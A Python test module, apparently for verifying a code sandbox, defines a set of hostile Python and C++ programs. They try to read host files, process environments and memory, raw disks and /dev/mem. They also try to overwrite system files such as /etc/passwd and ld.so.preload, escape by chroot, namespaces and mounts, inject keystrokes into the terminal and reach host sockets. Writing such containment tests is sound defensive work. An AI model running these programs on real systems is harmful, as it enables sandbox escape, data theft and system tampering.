"""The host's files, variables, network and devices; other places and names; what an earlier program left."""

# ruff: noqa: E501

from tests.verify.code.hostile.hostile import READ, SECRET, Hostile

FIND = r"""
def find(data):
    if isinstance(data, bytes): data = data.decode("latin-1")
    found = re.search(r"SECRET-[0-9a-f]{32}", data)
    if found:
        print(found[0], flush=True)
        os._exit(0)
def look(path, most=1 << 24):
    try:
        with open(path, "rb") as file: find(file.read(most))
    except (OSError, ValueError): pass
"""
LIBC = "libc = ctypes.CDLL(None, use_errno=True)\n"
CONNECT = """
def talk(kind, family, address):
    with socket.socket(family, kind) as client:
        client.settimeout(1)
        try:
            client.connect(address)
            client.send(b"hello")
            print(client.recv(64).decode(), flush=True)
        except OSError: return
        os._exit(0)
"""
NAMESPACES = """
for flags in (0x10000000, 0x00020000, 0x10020000, 0x7E020000, 0x40000000, 0x20000000, 0x02000000):
    libc.unshare(flags)
"""
PLACES = "PLACES = ('/tmp', '/dev/shm', '/var/tmp', '/run', '/var/lock', '/mnt', '.', '..', os.path.expanduser('~'), '/', '/dev', '/proc', '/sys')\n"

PROGRAMS = (
    Hostile("victim read", "read a file of the host", READ + FIND + "look(facts['victim'])", bare=True),
    Hostile(
        "victim read in C++",
        "read a file of the host",
        '#include <fstream>\n#include <iostream>\n#include <regex>\n#include <string>\nint main() { std::string facts, text; std::getline(std::cin, facts); std::smatch m; std::regex_search(facts, m, std::regex("\\"victim\\": \\"([^\\"]*)\\"")); std::ifstream file(m[1].str()); std::getline(file, text); std::cout << text << std::endl; }',
        language="cpp",
        bare=True,
    ),
    Hostile(
        "home read",
        "read all of the user's home",
        READ
        + FIND
        + "for folder, _, names in os.walk(facts['home']):\n    for name in names: look(os.path.join(folder, name))",
        bare=True,
    ),
    Hostile(
        "project and passwords read",
        "read this project and the host's list of users",
        READ
        + "import hashlib\nfor path, lock in facts['locked'].items():\n    try: key = hashlib.sha256(open(path, 'rb').read()).digest()\n    except OSError: continue\n    print('SECRET-' + bytes(a ^ b for a, b in zip(key, bytes.fromhex(lock))).hex(), flush=True)\n    os._exit(0)",
        bare=True,
    ),
    Hostile(
        "every file",
        "search every file that can be read",
        READ
        + FIND
        + "for folder, _, names in os.walk('/'):\n    if not folder.startswith(('/proc', '/sys', '/usr')):\n        for name in names:\n            path = os.path.join(folder, name)\n            if os.path.isfile(path): look(path)",
    ),
    Hostile(
        "victim by links",
        "read a file of the host through links and odd paths",
        READ
        + FIND
        + "os.symlink(facts['victim'], '/tmp/link')\nfor path in ('/tmp/link', '/proc/self/root' + facts['victim'], '/proc/1/root' + facts['victim'], '/proc/1/cwd' + facts['victim'], '/' + '../' * 30 + facts['victim'], '/newroot' + facts['victim'], '/oldroot' + facts['victim']): look(path)",
    ),
    Hostile(
        "variables",
        "read the variables of every process",
        READ
        + FIND
        + "find(repr(dict(os.environ)))\nfor path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/task/*/environ'): look(path)",
        bare=True,
    ),
    Hostile(
        "arguments",
        "read the command line of every process",
        READ
        + FIND
        + "for path in glob.glob('/proc/*/cmdline') + glob.glob('/proc/*/comm') + glob.glob('/proc/*/maps'): look(path)",
        bare=True,
    ),
    Hostile(
        "open files",
        "read what the processes hold open, and use it to go elsewhere",
        READ
        + FIND
        + """
for path in glob.glob('/proc/*/fd/*'):
    if os.path.isfile(path): look(path)
for fd in range(3, 1024):
    try: os.fstat(fd)
    except OSError: continue
    for way in ('..', '../..', '../../..', '../../../..', '.'):
        try: inside = os.open(way, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        except OSError: continue
        for name in (facts['victim'].lstrip('/'), os.path.basename(facts['victim'])):
            try: find(os.read(os.open(name, os.O_RDONLY, dir_fd=inside), 4096))
            except OSError: pass
""",
    ),
    Hostile(
        "devices",
        "read disks and memory of the machine",
        READ
        + FIND
        + "for path in ['/dev/mem', '/dev/kmsg', '/proc/kcore', '/proc/kmsg', *glob.glob('/dev/sd*'), *glob.glob('/dev/vd*'), *glob.glob('/dev/nvme*'), *glob.glob('/dev/loop*')]: look(path, 1 << 26)",
    ),
    Hostile(
        "device made",
        "make a disk's device, and read it",
        READ
        + FIND
        + "import stat\nfor name, major, minor in facts['disks']:\n    try: os.mknod('/tmp/disk', 0o600 | stat.S_IFBLK, os.makedev(major, minor))\n    except OSError: continue\n    look('/tmp/disk', 1 << 26)\n    os.unlink('/tmp/disk')",
    ),
    Hostile(
        "host's memory",
        "read the memory of every process",
        READ
        + FIND
        + """
for pid in glob.glob('/proc/[0-9]*'):
    if pid == f'/proc/{os.getpid()}': continue
    try:
        with open(pid + '/maps') as maps, open(pid + '/mem', 'rb') as memory:
            for line in maps:
                low, high = (int(end, 16) for end in line.split()[0].split('-'))
                if high - low < 1 << 26:
                    try:
                        memory.seek(low)
                        find(memory.read(high - low))
                    except (OSError, ValueError, OverflowError): pass
    except OSError: pass
""",
    ),
    Hostile(
        "victim written",
        "change and delete files of the host",
        READ
        + """
for path in (facts['victim'], *facts['locked'], facts['home'] + '/.bashrc'):
    for way in (lambda: open(path, 'w').write('owned'), lambda: os.chmod(path, 0o777), lambda: os.utime(path, (1, 1)), lambda: os.unlink(path), lambda: os.rename(path, path + '.old'), lambda: os.symlink('/', path)):
        try: way()
        except OSError: pass
""",
    ),
    Hostile(
        "victim by hard link",
        "link a file of the host to /tmp, and write it there",
        READ
        + FIND
        + "for way in (os.link, os.rename, os.symlink):\n    try:\n        way(facts['victim'], '/tmp/mine')\n        look('/tmp/mine')\n        open('/tmp/mine', 'a').write('owned')\n    except OSError: pass",
    ),
    Hostile(
        "system written",
        "change Python, the system and its settings",
        READ
        + """
import sysconfig
paths = [os.__file__, json.__file__, sys.executable, '/etc/passwd', '/etc/ld.so.preload', '/usr/bin/env', '/bin/sh', sysconfig.get_paths()['purelib'] + '/sitecustomize.py', sysconfig.get_paths()['stdlib'] + '/__pycache__/x.pyc', '/proc/sys/kernel/core_pattern', '/proc/sys/vm/drop_caches', '/proc/sysrq-trigger', '/sys/kernel/uevent_helper']
for path in paths:
    try: fd = os.open(path, os.O_WRONLY | os.O_CREAT)
    except OSError: continue
    print('writable', path)
for path in paths:
    if os.access(path, os.W_OK): print('writable', path)
""",
    ),
    Hostile(
        "traps of links",
        "lay links where the host may write or delete",
        READ
        + """
for name in ('stdout', 'stderr', 'output', 'result', 'result.json', 'program', 'program.py', 'a.out', 'main', 'core', '.cache', 'tests.json', '__pycache__'):
    for folder in ('.', '/tmp'):
        for path in (os.path.join(folder, name),):
            try: os.unlink(path)
            except OSError: pass
            try: os.symlink(facts['victim'], path)
            except OSError: pass
try: os.symlink(os.path.dirname(facts['victim']), '/tmp/folder')
except OSError: pass
""",
    ),
    Hostile(
        "own folder taken away",
        "delete, rename and lock the folder it runs in",
        READ
        + "import shutil\nfor way in (lambda: os.chmod('.', 0), lambda: shutil.rmtree('.', ignore_errors=True), lambda: shutil.rmtree('/tmp', ignore_errors=True), lambda: os.rename('/tmp', '/gone'), lambda: os.chmod('/tmp', 0)):\n    try: way()\n    except OSError: pass",
    ),
    Hostile(
        "TCP to the host",
        "connect to a port of the host",
        READ
        + CONNECT
        + "for address in ('127.0.0.1', 'localhost', '10.0.2.2', '0.0.0.0'): talk(socket.SOCK_STREAM, socket.AF_INET, (address, facts['tcp']))",
        bare=True,
    ),
    Hostile(
        "TCP by IPv6",
        "connect to a port of the host",
        READ
        + CONNECT
        + "for address in ('::ffff:127.0.0.1', '::1'): talk(socket.SOCK_STREAM, socket.AF_INET6, (address, facts['tcp']))",
        bare=True,
    ),
    Hostile(
        "TCP in C++",
        "connect to a port of the host",
        """
#include <arpa/inet.h>
#include <iostream>
#include <string>
#include <unistd.h>
int main() {
    std::string facts; std::getline(std::cin, facts);
    sockaddr_in to{}; to.sin_family = AF_INET; to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    to.sin_port = htons(std::stoi(facts.substr(facts.find("\\"tcp\\": ") + 7)));
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (sockaddr *)&to, sizeof to) || write(s, "hello", 5) != 5) return 1;
    char text[64]; int n = read(s, text, 64); std::cout << std::string(text, n < 0 ? 0 : n) << std::endl;
}
""",
        language="cpp",
        bare=True,
    ),
    Hostile(
        "UDP to the host",
        "ask as one asks a name server",
        READ
        + CONNECT
        + "for address in ('127.0.0.1', '0.0.0.0'): talk(socket.SOCK_DGRAM, socket.AF_INET, (address, facts['udp']))",
        bare=True,
    ),
    Hostile(
        "abstract socket",
        "connect to an abstract Unix socket",
        READ + CONNECT + "talk(socket.SOCK_STREAM, socket.AF_UNIX, '\\0' + facts['abstract'])",
        bare=True,
    ),
    Hostile(
        "Unix socket",
        "connect to a Unix socket in a folder of the host",
        READ
        + CONNECT
        + "for path in (facts['unix'], '/proc/1/root' + facts['unix']): talk(socket.SOCK_STREAM, socket.AF_UNIX, path)",
        bare=True,
    ),
    Hostile(
        "raw sockets",
        "listen to the network's packets",
        READ
        + "for family, kind, protocol in ((socket.AF_PACKET, socket.SOCK_RAW, 0x0300), (socket.AF_INET, socket.SOCK_RAW, 1), (40, socket.SOCK_STREAM, 0)):\n    try:\n        s = socket.socket(family, kind, protocol)\n        if family == 40: s.settimeout(0.5); s.connect((2, 1024))\n        else: s.settimeout(0.5); s.recv(100)\n    except OSError: pass",
    ),
    Hostile(
        "mounts",
        "mount the host's disks, and other file systems over its own",
        READ
        + FIND
        + LIBC
        + NAMESPACES
        + """
os.makedirs('/tmp/m', exist_ok=True)
for name, major, minor in facts['disks']:
    for kind in (b'ext4', b'xfs', b'btrfs'):
        libc.mount(b'/dev/' + name.encode(), b'/tmp/m', kind, 1, None)
look('/tmp/m' + facts['victim'])
for source, target, kind, flags in ((b'/', b'/tmp/m', None, 4096 | 16384), (b'proc', b'/tmp/m', b'proc', 0), (b'sysfs', b'/tmp/m', b'sysfs', 0), (b'none', b'/', None, 32), (b'none', b'/usr', None, 32 | 4096), (b'cgroup', b'/tmp/m', b'cgroup', 0)):
    libc.mount(source, target, kind, flags, None)
    look('/tmp/m' + facts['victim'])
libc.umount2(b'/proc', 2); libc.umount2(b'/tmp', 2); libc.umount2(b'/', 2)
look(facts['victim'])
""",
    ),
    Hostile(
        "chroot",
        "leave the root by the old trick",
        READ
        + FIND
        + LIBC
        + NAMESPACES
        + """
os.makedirs('/tmp/jail', exist_ok=True)
here = os.open('/', os.O_RDONLY)
try:
    os.chroot('/tmp/jail')
    os.fchdir(here)
    for _ in range(64): os.chdir('..')
    os.chroot('.')
except OSError: pass
look(facts['victim'])
""",
    ),
    Hostile(
        "root in a namespace",
        "become root in namespaces of its own, and hoard privileges",
        READ
        + FIND
        + LIBC
        + """
uid = os.getuid()
if libc.unshare(0x10000000) == 0:
    for path, text in (('setgroups', 'deny'), ('uid_map', f'0 {uid} 1'), ('gid_map', f'0 {os.getgid()} 1')):
        try: open('/proc/self/' + path, 'w').write(text)
        except OSError: pass
for way in (lambda: os.setresuid(0, 0, 0), lambda: os.setuid(0), lambda: os.setgroups([0])):
    try: way()
    except OSError: pass
libc.unshare(0x00020000)
libc.mount(b'none', b'/', None, 32 | 16384, None)
for pid in glob.glob('/proc/[0-9]*'):
    for kind in ('user', 'mnt', 'pid', 'net'):
        try: libc.setns(os.open(f'{pid}/ns/{kind}', os.O_RDONLY), 0)
        except OSError: pass
look(facts['victim'])
"""
        + CONNECT
        + "talk(socket.SOCK_STREAM, socket.AF_INET, ('127.0.0.1', facts['tcp']))",
    ),
    Hostile(
        "set-uid programs",
        "become root by the system's own programs",
        READ
        + FIND
        + "for command in (['su', '-c', 'cat ' + facts['victim']], ['sudo', '-n', 'cat', facts['victim']], ['mount', '/dev/vda', '/tmp'], ['pkexec', 'cat', facts['victim']]):\n    try: find(subprocess.run(command, capture_output=True, stdin=subprocess.DEVNULL, timeout=1).stdout)\n    except (OSError, subprocess.SubprocessError): pass",
    ),
    Hostile(
        "rare system calls",
        "keys, BPF, performance counters, io_uring, userfaultfd, file handles",
        READ
        + FIND
        + LIBC
        + """
buffer = ctypes.create_string_buffer(4096)
for number in (250, 321, 298, 425, 323, 246, 175, 313, 172, 173):
    libc.syscall(number, 0, buffer, 128, 0, 0)
for root in ('/', '/usr', '/tmp', '/proc'):
    try: fd = os.open(root, os.O_RDONLY)
    except OSError: continue
    for inode in range(1, 64):
        handle = ctypes.create_string_buffer(bytes([8, 0, 0, 0, 1, 0, 0, 0]) + inode.to_bytes(4, 'little') + bytes(4))
        got = libc.syscall(304, fd, handle, 0)
        if got >= 0:
            try: find(os.read(os.open(facts['victim'].lstrip('/'), os.O_RDONLY, dir_fd=got), 4096))
            except OSError: pass
""",
    ),
    Hostile(
        "terminal",
        "type into the terminal of the user",
        READ
        + "import fcntl, termios\nfor fd in [0, 1, 2, *range(3, 64)]:\n    for letter in 'exit\\n':\n        try: fcntl.ioctl(fd, termios.TIOCSTI, letter.encode())\n        except OSError: pass\ntry: os.write(os.open('/dev/tty', os.O_RDWR), b'owned')\nexcept OSError: pass",
    ),
    Hostile(
        "note left",
        "leave the secret for the next program in every place",
        READ
        + PLACES
        + f"for place in PLACES:\n    try: open(place + '/note', 'w').write('{SECRET}')\n    except OSError: pass\nimport shutil\nqueue = ctypes.CDLL(None)\nqueue.shmget(4711, 4096, 0o1666)\nqueue.shmat.restype = ctypes.c_void_p\nat = queue.shmat(queue.shmget(4711, 4096, 0o1666), None, 0)\nif at not in (None, 2 ** 64 - 1): ctypes.memmove(at, b'{SECRET}', 39)",
    ),
    Hostile(
        "note found",
        "read what the program before left",
        READ
        + FIND
        + PLACES
        + "for place in PLACES: look(place + '/note')\nqueue = ctypes.CDLL(None)\nqueue.shmat.restype = ctypes.c_void_p\nat = queue.shmat(queue.shmget(4711, 4096, 0), None, 0)\nif at not in (None, 2 ** 64 - 1): find(ctypes.string_at(at, 64))",
    ),
)
